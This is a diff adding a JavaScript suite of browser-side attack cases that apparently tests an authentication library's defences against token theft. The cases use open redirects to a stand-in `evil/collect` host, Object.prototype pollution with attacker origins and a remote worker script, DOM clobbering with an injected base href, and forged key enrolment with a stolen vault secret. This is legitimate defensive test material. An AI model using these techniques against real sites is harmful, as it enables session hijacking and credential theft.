@@ -1,0 +1,129 @@
+/** Whoever cannot take the token asks for it: the server, or the client that has it. */
+
+export const server = [
+  {
+    id: 'C-013b',
+    title: 'Have a handler say what was sent to it',
+    lent: true,
+    run: async ({ keep, request, echo }) => {
+      const answer = await request(echo);
+      keep('echo', await answer.text());
+      return answer.status;
+    },
+  },
+  {
+    id: 'C-014',
+    title: 'Ask the server for a token, with the cookies that are there',
+    run: async ({ keep, attempt }) =>
+      attempt(async () => {
+        const answer = await fetch('/auth/refresh', { method: 'POST', credentials: 'include' });
+        const body = await answer.text();
+        keep('refresh', body);
+        return [answer.status, JSON.parse(body).code];
+      }),
+  },
+  {
+    id: 'C-014c',
+    title: "Enrol a key with a vault's secret that a thief has fetched elsewhere",
+    run: async ({ keep, boot: { secretId, secret, now } }) => {
+      const bytes = (text) => Uint8Array.from(atob(text.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0));
+      const text = (buffer) =>
+        btoa(String.fromCharCode(...new Uint8Array(buffer))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
+      const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign']);
+      const point = await crypto.subtle.exportKey('raw', pair.publicKey);
+      const nonce = text(crypto.getRandomValues(new Uint8Array(16)));
+      const rest = `${secretId}.${now}.${nonce}.${text(point)}`;
+      const key = await crypto.subtle.importKey('raw', bytes(secret), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
+      const mac = await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(`enrol.refresh.${rest}`));
+      const headers = { 'symbolon-proof': `enrol.${rest}.${text(mac)}` };
+      const answer = await fetch('/auth/refresh', { method: 'POST', headers });
+      const body = await answer.text();
+      keep('refresh', body);
+      return [answer.status, JSON.parse(body).code];
+    },
+  },
+  {
+    id: 'C-014b',
+    title: 'Sign in from the page, and keep the answer',
+    run: async ({ keep, attempt, credentials }) =>
+      attempt(async () => {
+        const headers = { 'content-type': 'application/json' };
+        const answer = await fetch('/auth/sign-in', { method: 'POST', headers, body: JSON.stringify(credentials) });
+        const body = await answer.text();
+        keep('sign-in', body);
+        return [answer.status, JSON.parse(body).code];
+      }),
+  },
+  {
+    id: 'C-017',
+    title: 'Have the server send the client elsewhere',
+    lent: true,
+    run: async ({ keep, attempt, request, evil }) => {
+      const said = {};
+      const elsewhere = `${evil}/collect`;
+      const back = `${evil}/collect?back=${encodeURIComponent(`${location.origin}/api/echo`)}`;
+      for (const status of [301, 302, 303, 307, 308]) {
+        for (const [where, to] of Object.entries({ elsewhere, back, home: '/api/me' })) {
+          for (const method of ['GET', 'POST']) {
+            said[`${method} ${status} ${where}`] = await attempt(async () => {
+              const init = { method, headers: { 'content-type': 'application/json' }, body: method === 'POST' ? '{}' : undefined };
+              const answer = await request(`/api/redirect?status=${status}&to=${encodeURIComponent(to)}`, init).catch((error) => {
+                keep('thrown', error);
+                throw error.code ? { name: error.code } : error;
+              });
+              keep('answer', [answer.url, await answer.text()]);
+              return answer.status;
+            });
+          }
+        }
+      }
+      return said;
+    },
+  },
+  {
+    id: 'C-021',
+    title: 'Give every object options of the attacker',
+    lent: true,
+    run: async ({ keep, work, request, evil, attempt }) => {
+      const planted = {
+        allowedOrigins: [evil], apiOrigins: [evil], base: evil, baseUrl: evil, getToken: true, host: evil, mode: 'cors',
+        origin: evil, redirect: 'follow', referrerPolicy: 'unsafe-url', script: `${evil}/worker.js`, url: `${evil}/collect`,
+      };
+      Object.assign(Object.prototype, planted);
+      try {
+        const said = await work();
+        await attempt(async () => keep('answer', await (await request('/api/me')).text()));
+        return said;
+      } finally {
+        for (const name of Object.keys(planted)) delete Object.prototype[name];
+      }
+    },
+  },
+  {
+    id: 'C-027',
+    title: 'Move the base of every address, and clobber names',
+    early: true,
+    unready: true,
+    plant: ({ evil }) => {
+      const clobber = () => {
+        if (!document.body) return;
+        watcher.disconnect();
+        const base = document.createElement('base');
+        base.href = `${evil}/`;
+        document.head.prepend(base);
+        for (const id of ['config', 'auth', 'boot', 'location', 'origin', 'symbolon']) {
+          for (const name of ['api', 'origin', 'href', 'script']) {
+            document.body.append(Object.assign(document.createElement('a'), { id, name, href: `${evil}/` }));
+          }
+        }
+      };
+      const watcher = new MutationObserver(clobber);
+      watcher.observe(document, { childList: true, subtree: true });
+    },
+    run: async ({ pause, work }) => {
+      await pause(500);
+      await work(undefined, 500);
+      return { moved: document.baseURI.startsWith(location.origin) ? 'no' : 'yes', refusal: document.querySelector('#refusal').textContent };
+    },
+  },
+];
